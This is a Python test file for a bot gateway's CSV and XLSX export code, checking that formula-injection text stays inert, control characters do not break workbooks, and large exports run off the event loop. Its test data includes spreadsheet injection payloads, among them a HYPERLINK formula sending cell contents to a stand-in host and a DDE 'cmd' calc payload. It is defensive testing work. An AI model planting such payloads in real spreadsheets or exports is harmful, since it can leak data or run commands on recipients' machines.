"""Exports with hostile cell text: no live formula in CSV or XLSX, no broken XLSX, and a large
XLSX is built off the event loop (issue 16, bad input)."""

from __future__ import annotations

import csv
import io
import threading
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import async_sessionmaker

from bot_gateway import export
from bot_gateway.auth import Principal
from bot_gateway.db import migrate
from bot_gateway.db.engine import create_engine, create_sessionmaker
from bot_gateway.db.models import Cohort, PracticeSession, Trainee, Turn

EVERYONE = Principal(0, "test", "admin", frozenset())
FORMULA_NAMES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]
CONTROL_NAME = "Li\x07Lei\x00\x1b[31m"


async def _seed(url: str, names: list[str], *, replies_each: int = 1) -> async_sessionmaker:
    engine = create_engine(url)
    maker = create_sessionmaker(engine)
    start = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
    async with maker.begin() as db:
        cohort = Cohort(name="=cmd|' /C calc'!A0", invite_code="C1")
        db.add(cohort)
        for n, name in enumerate(names):
            trainee = Trainee(channel="web", external_id=f"w{n}", display_name=name, cohort=cohort)
            practice = PracticeSession(
                trainee=trainee,
                persona_id="angry_zh_test",
                persona_type="angry",
                language="zh",
                mode="practice",
                status="ended",
                outcome="resolved",
                started_at=start + timedelta(minutes=n),
                ended_at=start + timedelta(minutes=n + 4),
                overall_score=70,
            )
            practice.turns = [Turn(index=0, role="customer", text="hello")] + [
                Turn(
                    index=i + 1,
                    role="trainee",
                    text=f"{name} reply {i}" if i else name,
                    rating={"overall": 60, "rules": [{"id": "-rule"}]},
                    moves=[{"move": "apology"}],
                )
                for i in range(replies_each)
            ]
            db.add(practice)
    return maker


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    url = f"sqlite+aiosqlite:///{tmp_path / 'gateway.db'}"
    migrate.upgrade(url)
    return url


async def _collect(chunks: AsyncIterator[bytes]) -> bytes:
    return b"".join([chunk async for chunk in chunks])


# ---------------------------------------------------------------------------- CSV


def test_a_csv_cell_that_starts_a_formula_is_neutralised() -> None:
    for text in FORMULA_NAMES:
        cell = export.csv_cell(text)
        assert cell == "'" + text, text
    assert export.csv_cell("Li Lei") == "Li Lei"
    assert export.csv_cell("李雷") == "李雷"
    assert export.csv_cell(-2.5) == -2.5  # a number is a number, not text
    assert export.csv_cell(None) == ""


async def test_the_csv_export_has_no_live_formula(database_url: str) -> None:
    maker = await _seed(database_url, FORMULA_NAMES)
    text = (await _collect(export.csv_chunks(maker, EVERYONE, export.ExportFilters()))).decode()
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert [row["trainee"] for row in rows] == ["'" + name for name in FORMULA_NAMES]
    assert {row["cohort"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert rows[0]["overall"] == "70"


# ---------------------------------------------------------------------------- XLSX


def _cells(data: bytes, sheet: str) -> list[list[object]]:
    book = load_workbook(io.BytesIO(data))
    return [[c for c in row] for row in book[sheet].iter_rows(values_only=False)]


async def test_the_xlsx_export_keeps_formula_text_as_text(database_url: str) -> None:
    maker = await _seed(database_url, FORMULA_NAMES)
    data = await _collect(export.xlsx_chunks(maker, EVERYONE, export.ExportFilters()))
    sessions = _cells(data, "sessions")
    header = [c.value for c in sessions[0]]
    trainee_cells = [row[header.index("trainee")] for row in sessions[1:]]
    # the text is kept as it was, stored as text with Excel's quote prefix: never a formula
    assert [c.value for c in trainee_cells] == FORMULA_NAMES
    assert all(c.data_type == "s" for c in trainee_cells)
    assert all(c.quotePrefix for c in trainee_cells)
    turns = _cells(data, "turns")
    header = [c.value for c in turns[0]]
    texts = [row[header.index("text")] for row in turns[1:]]
    assert [c.value for c in texts] == FORMULA_NAMES
    assert all(c.data_type == "s" for c in texts)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in archive.read(n) for n in sheets)


async def test_a_control_character_in_a_name_does_not_break_the_xlsx(database_url: str) -> None:
    maker = await _seed(database_url, ["Ann", CONTROL_NAME, "Zoe"])
    data = await _collect(export.xlsx_chunks(maker, EVERYONE, export.ExportFilters()))
    sessions = _cells(data, "sessions")
    header = [c.value for c in sessions[0]]
    names = [row[header.index("trainee")].value for row in sessions[1:]]
    # every row is there; the control characters show as their visible symbols
    assert names == ["Ann", "Li\u2407Lei\u2400\u241b[31m", "Zoe"]
    assert export.xlsx_text(CONTROL_NAME) == "Li\u2407Lei\u2400\u241b[31m"
    assert export.xlsx_text("tab\tand\nnewline") == "tab\tand\nnewline"  # legal in XLSX
    assert export.xlsx_text("a\r\nb\rc\uffff") == "a\nb\nc\ufffd"


async def test_a_large_xlsx_is_built_off_the_event_loop(database_url: str) -> None:
    """Rows are appended and the archive zipped in worker threads, never on the loop's thread
    (a timing check would be flaky on a shared machine: before the fix a 2,400-row export held
    the loop for up to 0.7 s)."""
    maker = await _seed(database_url, [f"trainee {n}" for n in range(250)], replies_each=2)
    loop_thread = threading.get_ident()
    workers: dict[str, set[int]] = {"append": set(), "save": set()}
    real_append, real_save = export._append_rows, export.save_workbook

    def append(*args):  # type: ignore[no-untyped-def]
        workers["append"].add(threading.get_ident())
        return real_append(*args)

    def save(*args):  # type: ignore[no-untyped-def]
        workers["save"].add(threading.get_ident())
        return real_save(*args)

    export._append_rows, export.save_workbook = append, save  # type: ignore[assignment]
    try:
        out = io.BytesIO()
        await export.write_xlsx(maker, EVERYONE, export.ExportFilters(), out)
    finally:
        export._append_rows, export.save_workbook = real_append, real_save  # type: ignore[assignment]
    assert workers["append"] and workers["save"]
    assert loop_thread not in workers["append"] | workers["save"]
    book = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
    assert sum(1 for _ in book["sessions"].iter_rows()) == 1 + 250  # two pages of sessions
    assert sum(1 for _ in book["turns"].iter_rows()) == 1 + 250 * 2
